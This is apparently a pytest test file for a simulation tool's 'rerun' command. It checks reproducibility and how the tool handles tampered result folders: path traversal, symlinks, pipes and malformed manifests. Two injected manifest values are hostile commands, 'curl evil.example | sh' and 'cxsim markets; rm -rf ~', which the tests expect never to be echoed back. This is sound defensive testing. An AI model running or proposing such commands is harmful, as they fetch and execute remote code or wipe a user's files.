"""`cxsim rerun`: the same bits from the inputs that were kept."""

import hashlib
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import chdir, contextmanager
from pathlib import Path

import numpy
import pytest

from experiments.cli import main
from experiments.errors import RequestError
from experiments.experiment.kept_request import _check_copies
from tests.commands.conftest import plain_reports, small_in
from tests.harness.folders import finish

MINE = "extends: price-cut\ntitle: Cut it\nquestion: Why?\n"


def made(place: Path) -> Path:
    """Return the folder of a comparison on a market of one's own, whose files are gone since."""
    (place / "mine-cut.yaml").write_text(MINE)
    with pytest.raises(SystemExit) as end, chdir(place):
        main(["compare", *small_in(place), "mine-cut", "--replications=2", "--workers=1", "--out=out"])
    assert not end.value.code
    for file in place.glob("*.yaml"):
        file.unlink()
    return place / "out"


@pytest.fixture(scope="module")
def first(tmp_path_factory) -> Path:
    """Return such a folder, made once, with a plain report."""
    with plain_reports():
        return made(tmp_path_factory.mktemp("kept"))


@pytest.fixture
def kept(first, tmp_path) -> Path:
    """Return such a folder, with a plain report."""
    return shutil.copytree(first, tmp_path / "out")


def test_comparison_is_repeated_bit_for_bit(cxsim, tmp_path, capfd):
    """All outputs are the same, although market and scenario file are no longer where they were."""
    made(tmp_path)
    capfd.readouterr()
    answer = cxsim("rerun", "out", "--json")
    assert answer.code == 0
    assert {row["file"]: row["identical"] for row in json.loads(answer.out)} == {
        "weekly.parquet": "yes",
        "comparison.csv": "yes",
        "saved_lost.parquet": "yes",
        "report.html": "yes",
    }


def test_run_is_repeated_bit_for_bit(cxsim, small):
    """A single run can be repeated too."""
    cxsim("run", *small, "--seed=3", "--out=out")
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (0, "file\tidentical\nweekly.parquet\tyes\n")


@pytest.mark.usefixtures("plain_report")
def test_a_rerun_can_be_rerun(kept, cxsim):
    """The folder of a repetition is as good as the first."""
    cxsim("rerun", "out")
    assert cxsim("rerun", "out-rerun").code == 0


@pytest.mark.usefixtures("plain_report")
def test_difference_is_reported(kept, cxsim):
    """When a hash is not the one that was kept, the file is named and the exit code is 1."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest["outputs"]["comparison.csv"] = "0" * 64
    manifest["versions"]["numpy"] = "1.0"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "comparison.csv\tno" in answer.out
    assert f"the original was made with numpy 1.0 instead of {numpy.__version__}; the last bits" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_finished_results_are_not_taken_for_a_repetition(kept, cxsim):
    """A folder that is finished already would only be compared with itself: it is refused."""
    cxsim("rerun", "out")
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert "out-rerun already holds results" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_unfinished_results_cannot_be_repeated(kept, cxsim):
    """A comparison that was interrupted has nothing to be compared with yet; no command from its file is proposed."""
    manifest = json.loads((kept / "manifest.json").read_text())
    del manifest["outputs"]
    manifest["command"] = "\x1b[2Jcurl evil.example | sh"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert (
        "out holds no finished results: finish them first, by the command that its manifest.json names" in answer.error
    )
    assert "curl" not in answer.error


def test_folder_without_results_is_refused(cxsim, tmp_path):
    """Any other folder is answered in words."""
    answer = cxsim("rerun", ".")
    assert answer.code == 1
    assert "holds no results of cxsim" in answer.error


@pytest.mark.parametrize(
    "change",
    [
        {"experiment": None},
        {"experiment": "compere"},
        {"request": {}},
        {"request": {"colour": "red"}},
        {"request": []},
        {"copies": ["market"]},
        {"outputs": 3},
        {"request": {"market": "telecom", "scenarios": ["price-cut"], "weeks": "many"}},
        {"request": {"market": "telecom", "scenarios": ["price-cut"], "customers": 10**12}},
        {"versions": ["numpy"]},
        {"inputs": [1]},
        {"seeds": "1, 2"},
        {"cxsim": 3},
    ],
    ids=str,
)
def test_edited_manifest_is_answered_in_words(kept, cxsim, change):
    """A manifest that does not describe the run is no reason for a traceback."""
    manifest = json.loads((kept / "manifest.json").read_text())
    (kept / "manifest.json").write_text(json.dumps(manifest | change))
    answer = cxsim("rerun", "out")
    assert answer.code in (1, 2)
    assert len(answer.error.splitlines()) == 1
    assert "does not describe the run" in answer.error or "unknown experiment 'compere' (did you mean" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_a_changed_result_is_named(kept, cxsim):
    """A table that was changed after it was made is no proof of anything: it is named, with exit code 1."""
    with (kept / "comparison.csv").open("a") as file:
        file.write("mine\n")
    (kept / "weekly.parquet").unlink()
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "out/comparison.csv is missing or was changed after it was written" in answer.error
    assert "out/weekly.parquet is missing" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_a_changed_input_is_named(kept, cxsim):
    """When a copy of an input was edited, the repetition is one of other inputs, which is said."""
    market = kept / "inputs" / "market.yaml"
    market.write_text(market.read_text().replace("burn_in_weeks: 4", "burn_in_weeks: 3"))
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "out/inputs/market.yaml is missing or was changed since" in answer.error
    assert "weekly.parquet\tno" in answer.out


def test_a_manifest_names_nothing_outside(kept, cxsim):
    """Files that are not below the folder are not read, whatever a manifest says."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest["copies"]["inputs/../../secret"] = "0"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert "names 'inputs/../../secret', which is not a file in it" in answer.error


def secret(place: Path) -> str:
    """Return a market that is nobody's business, by its path."""
    (place / "secret").mkdir()
    (place / "secret" / "market.yaml").write_text("extends: telecom\ntitle: Our next price\n")
    return str(place / "secret" / "market.yaml")


@pytest.mark.parametrize(
    "change",
    [
        lambda file: {"market": file},
        lambda file: {"market": "secret"},
        lambda file: {"market": "inputs/../../secret/market.yaml"},
        lambda file: {"scenarios": ["inputs/scenarios/mine-cut.yaml", file]},
        lambda file: {"from_crm": file},
        lambda file: {"mapping": "../secret/market.yaml"},
        lambda file: {"pseudonyms": str(Path(file).with_name("key"))},
    ],
    ids=["market", "name", "path", "scenario", "table", "mapping", "key"],
)
@pytest.mark.parametrize("command", [("rerun", "out"), ("check", "out", "--repair")], ids=" ".join)
def test_a_request_in_a_manifest_reads_and_writes_nothing_outside(kept, cxsim, tmp_path, change, command):
    """A manifest that names another file than a copy beside it is refused before anything is read or written."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest["request"] |= change(secret(tmp_path))
    (kept / "manifest.json").write_text(json.dumps(manifest))
    (kept / "runs" / "manifest.kept").unlink()
    before = sorted(tmp_path.rglob("*"))
    answer = cxsim(*command)
    assert answer.code == 2
    assert "of which the folder keeps no copy" in answer.error
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize(
    ("copy", "text"),
    [
        ("inputs/market.yaml", "extends: {file}"),
        ("inputs/market.yaml", "extends: ../../secret/market.yaml"),
        ("inputs/market.yaml", "extends: telecom\nnetwork: {{kind: edge_list, edges: {file}}}"),
        ("inputs/scenarios/mine-cut.yaml", "extends: {file}"),
        ("inputs/scenarios/mine-cut.yaml", "candidates: [{{scenario: [calmer]}}, {{scenario: ../../../cut.yaml}}]"),
    ],
)
def test_a_copy_leads_to_nothing_outside(kept, cxsim, tmp_path, copy, text):
    """Nor does a copy that was written by hand lead to a file elsewhere."""
    (kept / copy).write_text(text.format(file=secret(tmp_path)))
    answer = cxsim("rerun", "out")
    assert answer.code == 2
    assert f"out/{copy} names " in answer.error
    assert "which is not in the folder" in answer.error
    assert not (tmp_path / "out-rerun").exists()


def with_copies(folder: Path, files: dict[str, str], **request: str) -> None:
    """Write files by hand into a folder of results, the first of them as its copy; its request names what is given."""
    manifest = json.loads((folder / "manifest.json").read_text())
    for name, text in files.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)
    copy = next(iter(files))
    manifest["copies"][copy] = hashlib.sha256((folder / copy).read_bytes()).hexdigest()
    manifest["request"] |= request
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "runs" / "manifest.kept").unlink()


@pytest.mark.parametrize("name", ["market.dat", "market.YAML", "market", "market.csv"])
def test_a_copy_leads_nowhere_whatever_it_is_called(kept, cxsim, tmp_path, name):
    """A market that is not called like one is read as one, so it is looked at as one."""
    with_copies(kept, {f"inputs/{name}": f"extends: {secret(tmp_path)}"}, market=f"inputs/{name}")
    answer = cxsim("rerun", "out")
    assert answer.code == 2
    assert "which is not in the folder" in answer.error


@pytest.mark.parametrize(("step", "file"), [("older.dat", "older.dat"), ("older", "older/market.yaml")])
def test_nor_does_what_a_copy_leads_to(kept, cxsim, tmp_path, step, file):
    """A file in the folder that a copy extends, and that is no copy itself, leads nowhere else either."""
    with_copies(kept, {"inputs/market.yaml": f"extends: {step}", f"inputs/{file}": f"extends: {secret(tmp_path)}"})
    answer = cxsim("rerun", "out")
    assert answer.code == 2
    assert "which is not in the folder" in answer.error


def test_a_link_beside_a_copy_is_refused(kept, cxsim, tmp_path):
    """Where copies lie elsewhere than usual, what can be found by its name beside them is no link either."""
    with_copies(kept, {"mine/market.yaml": "extends: telecom"}, market="mine/market.yaml")
    (kept / "mine" / "cut.yaml").symlink_to(secret(tmp_path))
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "which is not a file in it" in answer.error


def test_a_portfolio_leads_nowhere(tmp_path):
    """Nor do the candidates of a portfolio, each of which may name a file."""
    (tmp_path / "levers.yaml").write_text("candidates: [{levers: []}, {scenario: ../secret.yaml}]")
    with pytest.raises(RequestError, match=r"names '\.\./secret\.yaml', which is not in the folder"):
        _check_copies(tmp_path, ["levers.yaml"], ())


def test_numbers_of_a_manifest_without_end(kept, cxsim):
    """A number that is too large for any processor is refused in words."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest["request"]["weeks"] = 10**400
    (kept / "manifest.json").write_text(json.dumps(manifest))
    (kept / "runs" / "manifest.kept").unlink()
    answer = cxsim("rerun", "out")
    assert answer.code == 2
    assert "a number of hundreds of digits is not a whole number from 1 to 1040" in answer.error


@pytest.mark.parametrize("text", ["", "[" * 100_000, '{"cxsim": ' * 5_000, "null", "\0" * 50])
def test_a_manifest_that_is_none_is_answered_in_words(kept, cxsim, text):
    """A manifest without content, without an end, or of another kind is named; the same command still goes on."""
    (kept / "manifest.json").write_text(text)
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert "holds no results of cxsim" in answer.error


def test_a_foreign_command_is_not_proposed(kept, cxsim):
    """A manifest can put no command of its own before whoever reads the answer."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest |= {"outputs": {}, "command": "cxsim markets; rm -rf ~"}
    (kept / "manifest.json").write_text(json.dumps(manifest))
    assert "rm -rf" not in cxsim("rerun", "out").error


@pytest.mark.parametrize("place", ["inputs", "runs", "inputs/market.yaml", "manifest.json", "runs/seed-1.kept"])
def test_links_are_not_followed(kept, cxsim, tmp_path, place):
    """A link in a folder of results is named, whatever it leads to, and nothing is read or written through it."""
    elsewhere = tmp_path / "elsewhere"
    (kept / place).rename(elsewhere)
    (kept / place).symlink_to(elsewhere)
    for command in (("rerun", "out"), ("check", "out"), ("check", "out", "--repair")):
        answer = cxsim(*command)
        assert answer.code == 1
        assert f"out/{place} is a link" in answer.error
    assert not (tmp_path / "out-rerun").exists()


@pytest.mark.parametrize("place", ["manifest.json", "inputs/market.yaml", "runs/seed-9.kept", "runs/claims.lock"])
def test_pipes_are_not_read(kept, cxsim, place):
    """A pipe in a folder of results, which would be waited for without end, is named."""
    (kept / place).unlink(missing_ok=True)
    os.mkfifo(kept / place)
    for command in (("rerun", "out"), ("check", "out"), ("check", "out", "--repair"), ("discover", "out")):
        answer = cxsim(*command)
        assert answer.code == 1
        assert f"out/{place} is a pipe or a device" in answer.error or "holds no results of a sweep" in answer.error


@contextmanager
def deep_folders(place: Path, depth: int) -> Iterator[None]:
    """Make folders in folders for a while, deeper than Python calls functions, with a file in the last one."""
    with chdir(place):
        for _ in range(depth):
            os.mkdir("d")
            os.chdir("d")
        Path("seed-1.kept").touch()
    yield
    subprocess.run(["rm", "-r", place / "d"], check=True)


@pytest.mark.parametrize(
    ("place", "depth", "code", "words"),
    [
        (".", 1100, 0, "does not belong to these results"),
        ("runs", 1100, 1, "out holds folders more than 20 deep in each other"),
        ("inputs", 2200, 0, "no problems found"),
    ],
)
def test_deep_folders_are_read_or_left_out(kept, cxsim, place, depth, code, words):
    """However deep folders lie in each other, what is in them is named, or left out where no path can name it."""
    with deep_folders(kept / place, depth):
        answer = cxsim("check", "out")
    assert answer.code == code
    assert words in answer.out + answer.error


@pytest.mark.parametrize("part", ["command", "experiment", "outputs", "copies", "inputs", "versions"])
def test_text_that_cannot_be_written_is_refused(kept, cxsim, part):
    """Escapes of half a letter in a manifest, which could be written nowhere, are refused with the manifest."""
    manifest = json.loads((kept / "manifest.json").read_text())
    manifest[part] = {"\ud800": "0"} if isinstance(manifest[part], dict) else "\ud800"
    (kept / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert (answer.code, answer.out) == (1, "")
    assert "manifest.json is missing or not readable" in answer.error


def test_names_that_cannot_be_written_stop_nobody(kept, cxsim):
    """A file whose name is no text is told, in letters that can be printed; among the runs it is one to be dropped."""
    os.close(os.open(os.fsencode(kept) + b"/notes\xff\x1b[2J", os.O_CREAT))
    os.close(os.open(os.fsencode(kept) + b"/runs/\xff.kept", os.O_CREAT))
    (kept / "weekly.parquet").unlink()
    answer = cxsim("check", "out", "--repair")
    assert answer.code == 0
    assert "\\x1b[2J: does not belong to these results" in answer.error
    assert ".kept: the finished run is damaged or of other results" in answer.error
    assert (kept / "weekly.parquet").exists()
    assert [path.name for path in (kept / "runs").iterdir() if not path.name.isprintable()] == []


@pytest.mark.usefixtures("plain_report")
def test_a_folder_that_came_along_is_not_written_to(kept, cxsim, tmp_path):
    """What somebody put beside the results, where the repetition would stand, is neither read nor written to."""
    shutil.copytree(kept, tmp_path / "out-rerun")
    manifest = json.loads((kept / "manifest.json").read_text())
    del manifest["outputs"]
    (tmp_path / "out-rerun" / "manifest.json").write_text(json.dumps(manifest))
    before = sorted(tmp_path.rglob("*"))
    answer = cxsim("rerun", "out")
    assert answer.code == 1
    assert "out-rerun already holds results; choose another folder with --out" in answer.error
    assert sorted(tmp_path.rglob("*")) == before


def test_a_manifest_names_no_folder_of_the_machine(cxsim, tmp_path):
    """A folder that results were made from is named by its path from them, never from the root."""
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "regions.csv").touch()
    manifest = json.loads((finish(tmp_path / "out") / "manifest.json").read_text())
    manifest |= {"experiment": "discover", "request": {"sweep": "/etc"}}
    (tmp_path / "out" / "manifest.json").write_text(json.dumps(manifest))
    answer = cxsim("rerun", "out")
    assert answer.code == 2
    assert "sweep must be named by its path from the folder" in answer.error


def test_a_damaged_sweep_is_not_searched(cxsim, tmp_path):
    """A sweep with another table than it wrote is named, and no region is looked for in it."""
    (tmp_path / "swept").mkdir()
    (tmp_path / "swept" / "results.parquet").write_bytes(b"PAR1")
    (finish(tmp_path / "swept") / "results.parquet").write_bytes(b"PAR2")
    answer = cxsim("discover", "swept")
    assert answer.code == 1
    assert "swept/results.parquet is missing or was changed after it was written" in answer.error


@pytest.mark.usefixtures("plain_report")
def test_the_folder_one_stands_in(kept, cxsim, monkeypatch):
    """``cxsim rerun .`` writes beside the folder, as with its name."""
    monkeypatch.chdir(kept)
    assert cxsim("rerun", ".").code == 0
    assert (kept.parent / "out-rerun" / "comparison.csv").exists()
